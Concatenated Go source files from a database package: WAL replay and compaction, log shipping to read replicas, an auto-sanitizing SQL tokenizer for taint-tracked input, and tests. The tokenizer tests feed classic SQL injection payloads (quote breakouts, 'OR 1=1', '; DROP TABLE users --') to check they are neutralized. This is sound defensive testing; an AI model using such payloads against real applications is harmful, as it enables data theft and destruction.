// the policy (the default). Open snapshots stay correct: compaction
// rewrites only the file, and version reclamation respects every
// registered snapshot.
func (db *DB) SetWALAutoCompact(bytes int64) {
	db.Engine().autoCompact.Store(bytes)
}

// Close syncs and closes the write-ahead log. Later mutations fail with
// ErrDBClosed; reads keep working against the in-memory state. Closing
// an in-memory database (or closing twice) is a no-op.
func (db *DB) Close() error {
	db.txMu.Lock()
	defer db.txMu.Unlock()
	return db.engine.closeWAL()
}

// Compact rewrites the log as the minimal statement sequence that
// rebuilds the current state (snapshot + compaction, docs/SQL.md §8), so
// replay cost is bounded by live data instead of history length.
func (db *DB) Compact() error {
	return db.Engine().compactWAL()
}

// WALSize reports the log's current byte length (0 for an in-memory
// database). Tests and operators use it to decide when to Compact.
func (db *DB) WALSize() int64 {
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.wal == nil {
		return 0
	}
	return e.wal.size
}

// SetWALGroupCommit sets the group-commit knob: n <= 1 (the default)
// fsyncs after every mutation before it is acknowledged; n > 1 batches
// up to n mutations per fsync, trading the durability of the last
// unsynced batch on an OS crash for append throughput
// (BenchmarkSQLWALAppend measures the spread). Process-crash safety is
// unaffected: records reach the file per append, only the fsync is
// deferred.
func (db *DB) SetWALGroupCommit(n int) {
	e := db.Engine()
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal != nil {
		e.wal.groupEvery = n
	}
}

// SyncWAL forces pending group-commit appends to stable storage.
func (db *DB) SyncWAL() error {
	e := db.Engine()
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal == nil {
		return nil
	}
	return e.wal.syncNow()
}

func (e *Engine) attachWAL(w *wal) {
	e.mu.Lock()
	e.wal = w
	e.mu.Unlock()
}

func (e *Engine) closeWAL() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal == nil {
		return nil
	}
	return e.wal.close()
}

// walItem is one buffered replay unit: a DDL statement's text, or a
// DML statement's decoded row ops.
type walItem struct {
	stmt string
	ops  []rowOp
}

func applyWALItem(engine *Engine, it walItem) error {
	if it.ops != nil {
		return engine.applyReplayOps(it.ops)
	}
	return applyWALStmt(engine, it.stmt)
}

// replayWAL opens (creating if absent) the log at path, applies its
// committed prefix to engine, truncates any torn tail, and returns the
// log positioned for appending. legacy reports a v1 statement-format
// log, which the caller must compact (rewriting it as v2) before
// appending anything.
func replayWAL(path string, engine *Engine) (*wal, bool, error) {
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		return nil, false, err
	}
	// Single writer: two handles replaying and then appending to the
	// same log at independent offsets would interleave frames and
	// corrupt it. The lock is advisory, per-file, and released by
	// wal.close (or process exit).
	if err := lockWALFile(f); err != nil {
		f.Close()
		return nil, false, fmt.Errorf("%w: %s", ErrWALBusy, path)
	}
	data, err := io.ReadAll(f)
	if err != nil {
		f.Close()
		return nil, false, err
	}

	corrupt := func(off int64, reason string, underlying error) (*wal, bool, error) {
		f.Close()
		return nil, false, &WALCorruptionError{Path: path, Offset: off, Reason: reason, Err: underlying}
	}

	if len(data) < walHeaderSize {
		// Shorter than a header: a crash while creating the file leaves a
		// prefix of the header (torn — start the log over); anything else
		// is not a RESIN WAL.
		if !strings.HasPrefix(walMagic, string(data)) && len(data) > 0 {
			return corrupt(0, "not a RESIN WAL (bad magic)", nil)
		}
		w, err := resetWAL(path, f)
		return w, false, err
	}
	if string(data[:len(walMagic)]) != walMagic {
		return corrupt(0, "not a RESIN WAL (bad magic)", nil)
	}
	version := data[len(walMagic)]
	if version != walVersion && version != walVersionLegacy {
		return corrupt(int64(len(walMagic)), fmt.Sprintf("unsupported WAL version %d (want %d)", version, walVersion), nil)
	}
	legacy := version == walVersionLegacy

	// goodEnd is the offset after the last *applied* record: a standalone
	// statement or ops record, or a transaction's commit marker. Records
	// inside B..C buffer until the commit marker applies them, so a
	// group whose commit never hit the disk is dropped with the torn
	// tail.
	goodEnd := int64(walHeaderSize)
	off := walHeaderSize
	inTx := false
	var group []walItem
	for off < len(data) {
		payload, end, ok := walNextRecord(data, off)
		if !ok {
			break // torn tail: partial/zeroed framing or bad checksum
		}
		recStart := int64(off)
		off = end
		switch payload[0] {
		case walRecStmt:
			it := walItem{stmt: string(payload[1:])}
			if inTx {
				group = append(group, it)
				continue
			}
			if err := applyWALItem(engine, it); err != nil {
				return corrupt(recStart, "statement replay failed", err)
			}
			goodEnd = int64(off)
		case walRecOps:
			if legacy {
				return corrupt(recStart, "row-ops record in a v1 WAL", nil)
			}
			ops, err := decodeOpsPayload(payload[1:])
			if err != nil {
				return corrupt(recStart, "undecodable row-ops record", err)
			}
			it := walItem{ops: ops}
			if inTx {
				group = append(group, it)
				continue
			}
			if err := applyWALItem(engine, it); err != nil {
				return corrupt(recStart, "row-ops replay failed", err)
			}
			goodEnd = int64(off)
		case walRecBegin:
			if len(payload) != 1 {
				return corrupt(recStart, "begin marker with payload", nil)
			}
			if inTx {
				return corrupt(recStart, "nested transaction begin marker", nil)
			}
			inTx, group = true, nil
		case walRecCommit:
			if len(payload) != 1 {
				return corrupt(recStart, "commit marker with payload", nil)
			}
			if !inTx {
				return corrupt(recStart, "commit marker without begin", nil)
			}
			// The whole group applies under one commit version, exactly
			// as commitOps installed it live, so replayed frontiers match
			// the primary's numbering record for record.
			if err := engine.applyReplayGroup(group); err != nil {
				return corrupt(recStart, "transaction replay failed", err)
			}
			inTx, group = false, nil
			goodEnd = int64(off)
		default:
			return corrupt(recStart, fmt.Sprintf("unknown record type 0x%02x", payload[0]), nil)
		}
	}

	if goodEnd < int64(len(data)) {
		if err := f.Truncate(goodEnd); err != nil {
			f.Close()
			return nil, false, fmt.Errorf("sqldb: truncate torn WAL tail: %w", err)
		}
		if err := f.Sync(); err != nil {
			f.Close()
			return nil, false, fmt.Errorf("sqldb: sync truncated WAL: %w", err)
		}
	}
	if _, err := f.Seek(goodEnd, 0); err != nil {
		f.Close()
		return nil, false, err
	}
	return &wal{path: path, f: f, size: goodEnd}, legacy, nil
}

// resetWAL starts the log over with a fresh header (new file, or a file
// torn inside the header before any record existed).
func resetWAL(path string, f *os.File) (*wal, error) {
	if err := f.Truncate(0); err != nil {
		f.Close()
		return nil, err
	}
	hdr := append([]byte(walMagic), walVersion)
	if _, err := f.WriteAt(hdr, 0); err != nil {
		f.Close()
		return nil, err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return nil, err
	}
	if _, err := f.Seek(int64(len(hdr)), 0); err != nil {
		f.Close()
		return nil, err
	}
	return &wal{path: path, f: f, size: int64(len(hdr))}, nil
}

// applyWALStmt replays one logged statement. Logged statements are the
// rewritten forms the engine executed, so replay parses and executes
// them raw — no filter pass, no second policy-column rewrite.
func applyWALStmt(engine *Engine, text string) error {
	stmt, err := Parse(core.NewString(text))
	if err != nil {
		return err
	}
	if _, ok := stmt.(*Select); ok {
		return fmt.Errorf("sqldb: non-mutating statement in WAL: %s", text)
	}
	if _, _, err := engine.ExecuteRaw(stmt); err != nil {
		return err
	}
	return nil
}
