package sqldb

import (
	"fmt"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// LexAutoSanitize is the §5.3 "variation on the second strategy": a
// tokenizer that keeps contiguous bytes carrying the UntrustedData policy
// in the same token, automatically sanitizing untrusted data in transit
// to the database. Untrusted bytes can never contribute to the query's
// structure:
//
//   - at the top level, a maximal run of untrusted bytes becomes a single
//     string-literal token, whatever characters it contains;
//
//   - inside a string literal, untrusted quote and backslash characters
//     are ordinary content — only trusted quotes terminate the literal,
//     so a "quote breakout" payload stays inside the value.
//
// Trusted bytes lex exactly as in Lex — including `?` and `:name`
// binding placeholders, which only trusted bytes can form: an untrusted
// `?` or `:` is swallowed into a value token like any other untrusted
// byte, so attacker input can never mint a binding slot.
func LexAutoSanitize(q core.String) ([]Token, error) {
	lexCalls.Add(1)
	src := q.Raw()
	untrusted := func(i int) bool {
		return q.PoliciesAt(i).Any(sanitize.IsUntrusted)
	}
	var toks []Token
	i := 0
	for i < len(src) {
		if untrusted(i) {
			// Maximal untrusted run → one value token.
			j := i
			var b core.Builder
			for j < len(src) && untrusted(j) {
				c, ps := q.ByteAt(j)
				b.AppendBytePolicies(c, ps)
				j++
			}
			toks = append(toks, Token{Type: TokString, Text: src[i:j], Value: b.String(), Start: i, End: j})
			i = j
			continue
		}
		c := src[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			i++
		case c == '-' && i+1 < len(src) && src[i+1] == '-':
			for i < len(src) && src[i] != '\n' {
				i++
			}
		case c == '\'':
			tok, next, err := lexStringAutoSanitize(q, src, i, untrusted)
			if err != nil {
				return nil, err
			}
			toks = append(toks, tok)
			i = next
		default:
			// Delegate a single trusted token to the plain lexer,
			// clipping at the next untrusted byte so untrusted input can
			// never influence trusted tokenization.
			clip := len(src)
			for j := i; j < len(src); j++ {
				if untrusted(j) {
					clip = j
					break
				}
			}
			tok, next, err := lexOneTrusted(q, src, i, clip)
			if err != nil {
				return nil, err
			}
			if tok.Type == TokEOF || next <= i {
				return nil, &LexError{Offset: i, Msg: "auto-sanitize scan stalled"}
			}
			toks = append(toks, tok)
			i = next
		}
	}
	toks = append(toks, Token{Type: TokEOF, Start: len(src), End: len(src)})
	if err := numberPlaceholders(toks); err != nil {
		return nil, err
	}
	return toks, nil
}

// lexStringAutoSanitize lexes a string literal opened by a trusted quote;
// untrusted bytes inside are always content (no escape or terminator
// semantics), while trusted bytes keep the normal escape rules.
func lexStringAutoSanitize(q core.String, src string, i int, untrusted func(int) bool) (Token, int, error) {
	start := i
	i++ // trusted opening quote
	var val core.Builder
	for i < len(src) {
		c, ps := q.ByteAt(i)
		if untrusted(i) {
			val.AppendBytePolicies(c, ps)
			i++
			continue
		}
		switch c {
		case '\'':
			if i+1 < len(src) && src[i+1] == '\'' && !untrusted(i+1) {
				val.AppendBytePolicies('\'', ps)
				i += 2
				continue
			}
			return Token{Type: TokString, Text: src[start : i+1], Value: val.String(), Start: start, End: i + 1}, i + 1, nil
		case '\\':
			if i+1 >= len(src) {
				return Token{}, 0, &LexError{Offset: i, Msg: "dangling backslash in string"}
			}
			_, nps := q.ByteAt(i + 1)
			val.AppendBytePolicies(src[i+1], nps)
			i += 2
		default:
			val.AppendBytePolicies(c, ps)
			i++
		}
	}
	return Token{}, 0, &LexError{Offset: start, Msg: "unterminated string literal"}
}

// lexOneTrusted lexes exactly one token of fully-trusted input starting
// at offset i, stopping trusted scanning at clip (the next untrusted
// byte) so untrusted bytes can never extend a trusted token.
func lexOneTrusted(q core.String, src string, i, clip int) (Token, int, error) {
	return scanToken(q, src, i, clip)
}

// ParseAutoSanitized parses a query with the auto-sanitizing tokenizer.
func ParseAutoSanitized(q core.String) (Statement, error) {
	toks, err := LexAutoSanitize(q)
	if err != nil {
		return nil, err
	}
	stmt, err := ParseTokens(toks)
	if err != nil {
		return nil, fmt.Errorf("sqldb: auto-sanitized parse: %w", err)
	}
	return stmt, nil
}
