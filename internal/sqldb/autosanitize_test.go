package sqldb

import (
	"strings"
	"testing"
	"testing/quick"

	"resin/internal/core"
	"resin/internal/sanitize"
)

func autoDB(t *testing.T) *DB {
	t.Helper()
	db := Open(core.NewRuntime())
	db.Filter().AutoSanitizeUntrusted(true)
	db.MustExec("CREATE TABLE users (name TEXT, role TEXT, uid INT)")
	db.MustExec("INSERT INTO users (name, role, uid) VALUES ('alice', 'admin', 1), ('bob', 'user', 2)")
	return db
}

func TestAutoSanitizeNeutralizesUnquotedInjection(t *testing.T) {
	db := autoDB(t)
	evil := sanitize.Taint(core.NewString("2 OR 1=1"), "form")
	q := core.Concat(core.NewString("SELECT name FROM users WHERE uid = "), evil)
	res, err := db.Query(q)
	if err != nil {
		t.Fatalf("auto-sanitize should execute, not reject: %v", err)
	}
	// The whole payload became one value; it matches no uid.
	if res.Len() != 0 {
		t.Errorf("injection payload matched %d rows; structure leaked", res.Len())
	}
}

func TestAutoSanitizeNeutralizesQuoteBreakout(t *testing.T) {
	db := autoDB(t)
	evil := sanitize.Taint(core.NewString("x' OR role = 'admin"), "form")
	q := core.Concat(core.NewString("SELECT name FROM users WHERE name = '"), evil, core.NewString("'"))
	res, err := db.Query(q)
	if err != nil {
		t.Fatalf("auto-sanitize should execute: %v", err)
	}
	if res.Len() != 0 {
		t.Errorf("breakout matched %d rows", res.Len())
	}
	// The literal really is the whole payload: searching for a name equal
	// to the payload string finds a row if we insert one.
	ins := core.Concat(
		core.NewString("INSERT INTO users (name, role, uid) VALUES ('"),
		evil, core.NewString("', 'weird', 9)"))
	if _, err := db.Query(ins); err != nil {
		t.Fatalf("insert with breakout payload: %v", err)
	}
	res, err = db.Query(q)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "x' OR role = 'admin" {
		t.Errorf("payload should round-trip as a plain value: %+v", res)
	}
}

func TestAutoSanitizeBenignQueriesUnchanged(t *testing.T) {
	db := autoDB(t)
	name := sanitize.Taint(core.NewString("bob"), "form")
	q := core.Concat(core.NewString("SELECT role FROM users WHERE name = '"), name, core.NewString("'"))
	res, err := db.Query(q)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "role").Str.Raw() != "user" {
		t.Errorf("benign lookup broken: %+v", res)
	}
	// Tainted digits for an INT comparison still work (string coerces).
	uid := sanitize.Taint(core.NewString("1"), "form")
	q2 := core.Concat(core.NewString("SELECT name FROM users WHERE uid = "), uid)
	res, err = db.Query(q2)
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "alice" {
		t.Errorf("tainted int lookup broken: %+v", res)
	}
}

func TestAutoSanitizeCommentInjectionNeutralized(t *testing.T) {
	db := autoDB(t)
	evil := sanitize.Taint(core.NewString("1 -- drop everything"), "form")
	q := core.Concat(core.NewString("SELECT name FROM users WHERE uid = "), evil)
	res, err := db.Query(q)
	if err != nil {
		t.Fatalf("comment payload should be a value: %v", err)
	}
	if res.Len() != 0 {
		t.Errorf("comment payload matched rows: %+v", res)
	}
}

func TestAutoSanitizeLexTokens(t *testing.T) {
	evil := sanitize.Taint(core.NewString("x' OR '1'='1"), "f")
	q := core.Concat(core.NewString("SELECT a FROM t WHERE a = '"), evil, core.NewString("'"))
	toks, err := LexAutoSanitize(q)
	if err != nil {
		t.Fatal(err)
	}
	var strVals []string
	for _, tok := range toks {
		if tok.Type == TokString {
			strVals = append(strVals, tok.Value.Raw())
		}
		if tok.Type.Structural() {
			// No structural token may overlap tainted bytes.
			for i := tok.Start; i < tok.End; i++ {
				if q.PoliciesAt(i).Any(sanitize.IsUntrusted) {
					t.Errorf("structural token %q covers tainted byte %d", tok.Text, i)
				}
			}
		}
	}
	if len(strVals) != 1 || strVals[0] != "x' OR '1'='1" {
		t.Errorf("string literals = %q, want the whole payload as one value", strVals)
	}
}

func TestAutoSanitizeTopLevelRunBecomesOneToken(t *testing.T) {
	evil := sanitize.Taint(core.NewString("1; DROP TABLE users --"), "f")
	q := core.Concat(core.NewString("SELECT a FROM t WHERE n = "), evil)
	toks, err := LexAutoSanitize(q)
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	for _, tok := range toks {
		if tok.Type == TokString {
			count++
			if tok.Value.Raw() != "1; DROP TABLE users --" {
				t.Errorf("value = %q", tok.Value.Raw())
			}
		}
	}
	if count != 1 {
		t.Errorf("tainted run produced %d string tokens, want 1", count)
	}
}

func TestAutoSanitizePreservesPolicies(t *testing.T) {
	db := autoDB(t)
	evil := sanitize.Taint(core.NewString("payload"), "f")
	ins := core.Concat(core.NewString("INSERT INTO users (name, role, uid) VALUES ('"),
		evil, core.NewString("', 'r', 7)"))
	if _, err := db.Query(ins); err != nil {
		t.Fatal(err)
	}
	res, err := db.QueryRaw("SELECT name FROM users WHERE uid = 7")
	if err != nil {
		t.Fatal(err)
	}
	got := res.Get(0, "name").Str
	if !got.HasPolicyEverywhere(sanitize.IsUntrusted) {
		t.Error("UntrustedData policy should persist through auto-sanitized insert")
	}
}

func TestAutoSanitizeErrors(t *testing.T) {
	// Trusted lex errors still surface with correct offsets.
	q := core.Concat(core.NewString("SELECT $ FROM t WHERE a = "), sanitize.Taint(core.NewString("x"), "f"))
	if _, err := LexAutoSanitize(q); err == nil {
		t.Error("trusted lex error should surface")
	}
	// Unterminated trusted literal.
	if _, err := LexAutoSanitize(core.NewString("SELECT a FROM t WHERE a = 'oops")); err == nil {
		t.Error("unterminated literal should fail")
	}
	// Bad structure after sanitizing still fails to parse.
	q2 := core.Concat(core.NewString("SELECT FROM WHERE "), sanitize.Taint(core.NewString("x"), "f"))
	if _, err := ParseAutoSanitized(q2); err == nil {
		t.Error("malformed query should fail to parse")
	}
}

// Property: for ANY payload string, the auto-sanitizing tokenizer never
// lets tainted bytes form structural tokens, in either splice position.
func TestQuickAutoSanitizeNoTaintedStructure(t *testing.T) {
	f := func(payload string) bool {
		if strings.ContainsRune(payload, 0) {
			return true
		}
		evil := sanitize.Taint(core.NewString(payload), "f")
		for _, q := range []core.String{
			core.Concat(core.NewString("SELECT a FROM t WHERE a = '"), evil, core.NewString("'")),
			core.Concat(core.NewString("SELECT a FROM t WHERE n = "), evil),
		} {
			toks, err := LexAutoSanitize(q)
			if err != nil {
				continue // rejection is safe
			}
			for _, tok := range toks {
				if !tok.Type.Structural() {
					continue
				}
				for i := tok.Start; i < tok.End; i++ {
					if q.PoliciesAt(i).Any(sanitize.IsUntrusted) {
						return false
					}
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}
