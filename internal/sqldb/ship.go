package sqldb

import (
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"sync"
)

// WAL shipping: the replication substrate under the wire protocol's
// read replicas (docs/WIRE.md §4). The unit of replication is the log
// byte: a follower's local log is maintained as a byte-prefix copy of
// the primary's, so the primary ships raw framed record bytes from an
// offset and the follower appends them verbatim, then replays complete
// committed records into its own engine. Because commitOps writes one
// B..C group per transaction and applyReplayGroup installs a group
// under one commit version, the follower's frontier counts the same
// versions in the same order as the primary's — "applied through
// version N" means the same N on both sides.
//
// Offsets are only meaningful within one log epoch. Compaction rewrites
// the whole file (wal.rewrite), after which old offsets name different
// bytes; the epoch counter increments and every shipping stream must
// re-handshake. The handshake is content-addressed: the follower
// presents (size, CRC-32 of its first size bytes) and the primary
// accepts iff that is a byte-exact prefix of its current log —
// ErrShipBehind then means "ship me bytes from size", while
// ErrShipDiverged means the follower's history is not a prefix (the
// primary compacted, or the follower forked) and the follower must
// resync from scratch.

// ErrShipBehind reports a resumable offset mismatch: the receiver is
// missing bytes before the chunk's offset (or the presented prefix is
// simply shorter than the primary's log). Recovery is to re-ship from
// the receiver's received offset — no state is lost.
var ErrShipBehind = errors.New("sqldb: follower is behind the shipped offset")

// ErrShipDiverged reports that a follower's log is not a byte prefix of
// the primary's — its history can never be reconciled by shipping more
// bytes. The follower must discard its state and resync from scratch.
var ErrShipDiverged = errors.New("sqldb: follower log diverged from the primary")

// Frontier returns the engine's current commit version. A primary and a
// follower that have applied the same committed log prefix report equal
// frontiers (pinned by TestFollowerFrontierMatchesPrimary).
func (db *DB) Frontier() uint64 {
	return db.Engine().frontier.Load()
}

// WALStatus reports the log's current epoch and byte size. It is the
// shipping source's positioning call: a follower at (epoch, size) with
// a verified prefix needs exactly the bytes [size, primarySize) of the
// same epoch.
func (db *DB) WALStatus() (epoch uint64, size int64, err error) {
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.wal == nil {
		return 0, 0, ErrNoWAL
	}
	return e.wal.epoch, e.wal.size, nil
}

// WALNotify returns a channel that receives a token after every
// size-changing log append (coalesced; capacity one). A shipping loop
// waits on it instead of polling WALStatus.
func (db *DB) WALNotify() (<-chan struct{}, error) {
	e := db.Engine()
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal == nil {
		return nil, ErrNoWAL
	}
	if e.wal.notify == nil {
		e.wal.notify = make(chan struct{}, 1)
	}
	return e.wal.notify, nil
}

// ReadWAL reads up to max log bytes starting at byte offset off, for
// shipping to a follower. The returned epoch identifies the log
// incarnation the bytes came from; a caller that saw a different epoch
// earlier must discard its stream state and re-handshake. Reading at
// the current end returns (nil, epoch, nil); reading past it returns
// ErrShipBehind (the offset outruns this log — after a compaction the
// new log can be shorter than the old offsets).
func (db *DB) ReadWAL(off int64, max int) (data []byte, epoch uint64, err error) {
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.wal == nil {
		return nil, 0, ErrNoWAL
	}
	w := e.wal
	if w.closed {
		return nil, w.epoch, ErrDBClosed
	}
	if off > w.size {
		return nil, w.epoch, fmt.Errorf("%w: offset %d beyond log size %d", ErrShipBehind, off, w.size)
	}
	n := w.size - off
	if n > int64(max) {
		n = int64(max)
	}
	if n == 0 {
		return nil, w.epoch, nil
	}
	buf := make([]byte, n)
	if _, err := w.f.ReadAt(buf, off); err != nil {
		return nil, w.epoch, fmt.Errorf("sqldb: WAL read at %d: %w", off, err)
	}
	return buf, w.epoch, nil
}

// VerifyWALPrefix checks a follower's position against this primary's
// log: size and the CRC-32 (IEEE) of the follower's first size bytes.
// It returns nil when that is a byte-exact prefix of the current log
// (ship from size onward), and ErrShipDiverged when it is not — the
// follower is longer than the log, or its bytes differ.
func (db *DB) VerifyWALPrefix(size int64, crc uint32) error {
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.wal == nil {
		return ErrNoWAL
	}
	if size > e.wal.size {
		return fmt.Errorf("%w: follower log (%d bytes) is longer than the primary's (%d)", ErrShipDiverged, size, e.wal.size)
	}
	ours, err := walPrefixCRC(e.wal, size)
	if err != nil {
		return err
	}
	if ours != crc {
		return fmt.Errorf("%w: prefix checksum mismatch over %d bytes", ErrShipDiverged, size)
	}
	return nil
}

// WALPrefixCRC computes the CRC-32 (IEEE) of the log's first n bytes —
// the follower's half of the shipping handshake.
func (db *DB) WALPrefixCRC(n int64) (uint32, error) {
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.wal == nil {
		return 0, ErrNoWAL
	}
	return walPrefixCRC(e.wal, n)
}

func walPrefixCRC(w *wal, n int64) (uint32, error) {
	if w.closed {
		return 0, ErrDBClosed
	}
	if n > w.size {
		return 0, fmt.Errorf("sqldb: prefix length %d beyond log size %d", n, w.size)
	}
	h := crc32.NewIEEE()
	if _, err := io.Copy(h, io.NewSectionReader(w.f, 0, n)); err != nil {
		return 0, fmt.Errorf("sqldb: WAL prefix checksum: %w", err)
	}
	return h.Sum32(), nil
}

// Follower replays shipped primary log bytes into a local database. The
// database must have been opened with OpenDB on its own log path: every
// received byte is first appended (and fsynced) to that local log, then
// complete committed records are applied to the engine — so a follower
// that crashes recovers by plain OpenDB (which truncates any torn or
// uncommitted tail) and resumes shipping from its recovered size.
//
// The follower's database must not be mutated locally; serve it
// read-only (the wire server's replica mode enforces this). Reads are
// safe concurrently with Apply — they see the applied frontier, never a
// half-replayed transaction, because groups install atomically under
// the engine's write lock.
type Follower struct {
	db *DB

	mu sync.Mutex
	// buf holds received-but-unapplied bytes: everything from offset
	// `applied` onward. parseOff is how far into buf record scanning has
	// advanced (>0 only while buffering an open B..C group).
	buf      []byte
	parseOff int
	inTx     bool
	group    []walItem
	applied  int64 // bytes applied through (a committed record boundary)
	broken   error // sticky first corruption; the follower is fail-stop
}

// NewFollower wraps a freshly opened persistent database as a shipping
// target, resuming at its recovered log size.
func NewFollower(db *DB) (*Follower, error) {
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.wal == nil {
		return nil, ErrNoWAL
	}
	return &Follower{db: db, applied: e.wal.size}, nil
}

// DB returns the follower's database, for serving read-only queries at
// its applied frontier.
func (f *Follower) DB() *DB { return f.db }

// Offsets reports the follower's replication position: applied is the
// byte offset of the last committed record boundary replayed into the
// engine (also its local log's durable committed prefix), received is
// applied plus buffered bytes of an open transaction group. A new
// handshake resumes from received... except after a crash, when the
// buffered tail is truncated by recovery and received equals applied.
func (f *Follower) Offsets() (applied, received int64) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.applied, f.applied + int64(len(f.buf))
}

// Frontier returns the follower engine's applied commit version.
func (f *Follower) Frontier() uint64 { return f.db.Frontier() }

// Apply ingests one shipped chunk of primary log bytes starting at byte
// offset off. Chunks must arrive in order: a chunk starting beyond the
// received offset fails with ErrShipBehind (the caller should
// re-handshake from Offsets), while bytes at or before it are
// de-duplicated. Undecodable records fail with a *WALCorruptionError
// (wrapping ErrWALCorrupt) and poison the follower — shipped bytes were
// checksummed end-to-end, so damage means the stream source is not the
// log the handshake verified, and the follower must resync.
func (f *Follower) Apply(off int64, data []byte) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.broken != nil {
		return f.broken
	}
	received := f.applied + int64(len(f.buf))
	if off > received {
		return fmt.Errorf("%w: chunk at %d, received only %d", ErrShipBehind, off, received)
	}
	if off+int64(len(data)) <= received {
		return nil // entirely duplicate
	}
	data = data[received-off:]
	// Mirror first, apply second: the local log is the durable copy, and
	// recovery tolerates a mirrored-but-unapplied tail (it replays it).
	e := f.db.Engine()
	e.mu.Lock()
	err := e.wal.appendRaw(data)
	e.mu.Unlock()
	if err != nil {
		return err
	}
	f.buf = append(f.buf, data...)
	return f.drain()
}

// drain applies every complete record in buf, holding incomplete tails
// (and open transaction groups) for the next chunk. Called with f.mu
// held.
func (f *Follower) drain() error {
	engine := f.db.Engine()
	for {
		payload, end, ok := walNextRecord(f.buf, f.parseOff)
		if !ok {
			return nil // incomplete tail: wait for more bytes
		}
		recStart := f.applied + int64(f.parseOff)
		corrupt := func(reason string, underlying error) error {
			err := &WALCorruptionError{Path: "shipped stream", Offset: recStart, Reason: reason, Err: underlying}
			f.broken = err
			return err
		}
		switch payload[0] {
		case walRecStmt:
			it := walItem{stmt: string(payload[1:])}
			if f.inTx {
				f.group = append(f.group, it)
				f.parseOff = end
				continue
			}
			if err := engine.applyReplayGroup([]walItem{it}); err != nil {
				return corrupt("statement replay failed", err)
			}
			f.commitTo(end)
		case walRecOps:
			ops, err := decodeOpsPayload(payload[1:])
			if err != nil {
				return corrupt("undecodable row-ops record", err)
			}
			it := walItem{ops: ops}
			if f.inTx {
				f.group = append(f.group, it)
				f.parseOff = end
				continue
			}
			if err := engine.applyReplayGroup([]walItem{it}); err != nil {
				return corrupt("row-ops replay failed", err)
			}
			f.commitTo(end)
		case walRecBegin:
			if len(payload) != 1 {
				return corrupt("begin marker with payload", nil)
			}
			if f.inTx {
				return corrupt("nested transaction begin marker", nil)
			}
			f.inTx, f.group = true, nil
			f.parseOff = end
		case walRecCommit:
			if len(payload) != 1 {
				return corrupt("commit marker with payload", nil)
			}
			if !f.inTx {
				return corrupt("commit marker without begin", nil)
			}
			if err := engine.applyReplayGroup(f.group); err != nil {
				return corrupt("transaction replay failed", err)
			}
			f.inTx, f.group = false, nil
			f.commitTo(end)
		default:
			return corrupt(fmt.Sprintf("unknown record type 0x%02x", payload[0]), nil)
		}
	}
}

// commitTo advances the applied boundary to buf offset end, releasing
// the consumed bytes. Called with f.mu held.
func (f *Follower) commitTo(end int) {
	f.applied += int64(end)
	f.buf = append([]byte(nil), f.buf[end:]...)
	f.parseOff = 0
}
