package sqldb

import (
	"fmt"
	"sync"
	"testing"

	"resin/internal/core"
)

// seedTable builds a table with n rows and an optional index on id.
func seedTable(t testing.TB, indexed bool, n int) *DB {
	t.Helper()
	db := openDB2(t)
	db.MustExec("CREATE TABLE items (id INT, name TEXT, grp INT)")
	if indexed {
		db.MustExec("CREATE INDEX ON items (id)")
		db.MustExec("CREATE INDEX ON items (grp)")
	}
	for i := 0; i < n; i += 50 {
		q := "INSERT INTO items (id, name, grp) VALUES "
		for j := i; j < i+50 && j < n; j++ {
			if j > i {
				q += ", "
			}
			q += fmt.Sprintf("(%d, 'item-%d', %d)", j, j, j%10)
		}
		db.MustExec(q)
	}
	return db
}

func openDB2(t testing.TB) *DB {
	if tt, ok := t.(*testing.T); ok {
		return openDB(tt)
	}
	return Open(core.NewRuntime())
}

// TestIndexedSelectMatchesScan runs the same queries against an indexed
// and an unindexed copy of the table and requires identical results,
// including row order.
func TestIndexedSelectMatchesScan(t *testing.T) {
	const n = 200
	indexed := seedTable(t, true, n)
	scan := seedTable(t, false, n)

	queries := []string{
		"SELECT name FROM items WHERE id = 7",
		"SELECT name FROM items WHERE id = 199",
		"SELECT name FROM items WHERE id = 12345",           // no match
		"SELECT id, name FROM items WHERE grp = 3",          // multi-row bucket
		"SELECT id FROM items WHERE grp = 3 AND id = 13",    // two usable conjuncts
		"SELECT id FROM items WHERE 13 = id",                // reversed operands
		"SELECT id FROM items WHERE id = 5 OR id = 6",       // OR: scan fallback
		"SELECT id FROM items WHERE NOT id = 5 AND grp = 1", // NOT conjunct + index
		"SELECT id FROM items WHERE id = '17'",              // string literal vs int column
		"SELECT id FROM items WHERE grp = 2 ORDER BY id DESC LIMIT 3",
		"SELECT id FROM items WHERE id = NULL", // NULL equality matches nothing
	}
	for _, q := range queries {
		a, err := indexed.QueryRaw(q)
		if err != nil {
			t.Fatalf("%s (indexed): %v", q, err)
		}
		b, err := scan.QueryRaw(q)
		if err != nil {
			t.Fatalf("%s (scan): %v", q, err)
		}
		if a.Len() != b.Len() {
			t.Errorf("%s: indexed %d rows, scan %d rows", q, a.Len(), b.Len())
			continue
		}
		for i := range a.Rows {
			for j := range a.Rows[i] {
				av, bv := a.Rows[i][j].Text().Raw(), b.Rows[i][j].Text().Raw()
				if av != bv {
					t.Errorf("%s: row %d col %d: indexed %q, scan %q", q, i, j, av, bv)
				}
			}
		}
	}
}

